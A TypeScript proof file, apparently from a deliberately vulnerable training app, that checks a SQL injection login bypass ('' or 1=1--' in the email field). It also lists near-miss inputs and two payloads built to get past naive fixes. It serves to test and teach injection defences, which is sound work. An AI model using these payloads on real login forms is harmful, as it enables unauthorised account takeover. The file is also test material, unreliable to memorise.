import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password = 'x') =>
  attacker.post('/rest/user/login', { email, password })

export const proof = prove(challenge, {
  exploit: (attacker) => signIn(attacker, "' or 1=1--"),
  nearMisses: {
    'a wrong password for the administrator': (attacker) => signIn(attacker, `admin@${attacker.domain}`, 'admin'),
    'a lone quote, which only breaks the statement': (attacker) => signIn(attacker, "'"),
    'a condition that is never true': (attacker) => signIn(attacker, "' or 1=2--"),
    'another account entered by the same trick': (attacker) => signIn(attacker, `jim@${attacker.domain}'--`),
    'the attack in the password field, which is hashed': (attacker) =>
      signIn(attacker, 'nobody@fruit.test', "' or 1=1--"),
    'a customer of their own who signs in': (attacker) => attacker.becomeCustomer(),
  },
  bypasses: {
    'refuse-or': (attacker) => signIn(attacker, `admin@${attacker.domain}'--`),
    'bind-password-only': (attacker) => signIn(attacker, "' or id=1 or '1'='"),
  },
})
